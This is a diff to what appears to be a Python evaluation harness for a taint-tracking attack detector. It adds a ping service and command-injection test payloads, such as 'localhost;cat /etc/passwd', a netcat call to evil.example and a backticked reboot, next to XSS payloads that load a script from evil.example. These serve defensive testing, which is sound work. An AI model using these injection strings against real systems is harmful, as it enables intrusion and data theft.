@@ -8,8 +8,10 @@ fire *through* the interpreter's dispatch-loop indirection:
 
 1. **Detection mixes** (per service, per seed): interleaved clean and
    attack requests against the key-value store (SQL injection → H3 at
-   the ``sql`` use point) and the templating handler (XSS → H5 at the
-   ``html_output`` use point), run in ``recover`` mode.  Every attack
+   the ``sql`` use point), the templating handler (XSS → H5 at the
+   ``html_output`` use point) and the ping service (command injection
+   → H4 at the ``system`` use point), run in ``recover`` mode.  Every
+   attack
    must be quarantined with the right policy id and an origin chain
    reaching the tainted *network request bytes* — not just VM-internal
    addresses — and every clean request must be answered.  Each mix is
@@ -50,6 +52,7 @@ from repro.apps.guestvm import (
     kv_get_request,
     kv_pget_request,
     kv_set_request,
+    ping_request,
     template_request,
 )
 from repro.compiler.instrument import ShiftOptions
@@ -85,6 +88,14 @@ XSS_PAYLOADS = (
     "<script>alert(1)</script>",
     "<SCRIPT src=//evil.example/x.js></SCRIPT>",
     "pre< script>document.cookie</script>",
+)
+
+#: H4 attack payloads: tainted shell metachars chaining extra commands
+#: onto the ping the vulnerable verb concatenates.
+CMD_ATTACK_HOSTS = (
+    "localhost;cat /etc/passwd",
+    "host.example|nc evil.example 80",
+    "a.example`reboot`",
 )
 
 _WORDS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace",
@@ -144,10 +155,40 @@ def _tmpl_mix(rng: random.Random, clean: int, attacks: int,
     return requests
 
 
+def _ping_mix(rng: random.Random, clean: int, attacks: int,
+              with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
+    """Seeded ping-service traffic: (request, expected policy or None)."""
+    requests: List[Tuple[bytes, Optional[str]]] = []
+    for i in range(clean):
+        host = rng.choice(_WORDS) + str(rng.randrange(100)) + ".example"
+        kind = rng.randrange(3)
+        if kind == 0:
+            # Vulnerable path, benign host: tainted bytes reach the
+            # shell command with no metachar among them — a
+            # true-negative through the concatenation.
+            requests.append((ping_request(host), None))
+        elif kind == 1:
+            # Validated control fed a *hostile* host: the in-script
+            # charset check rejects it before the shell-out.
+            requests.append(
+                (ping_request(rng.choice(CMD_ATTACK_HOSTS), validated=True),
+                 None))
+        else:
+            requests.append((ping_request(host, validated=True), None))
+    if with_attacks:
+        for i in range(attacks):
+            requests.append(
+                (ping_request(rng.choice(CMD_ATTACK_HOSTS)), "H4"))
+    rng.shuffle(requests)
+    return requests
+
+
 SERVICES = {
     "kv": {"variant": "guest-kv", "policy_id": "H3", "mix": _kv_mix},
     "template": {"variant": "guest-tmpl", "policy_id": "H5",
                  "mix": _tmpl_mix},
+    "ping": {"variant": "guest-ping", "policy_id": "H4",
+             "mix": _ping_mix},
 }
 
 
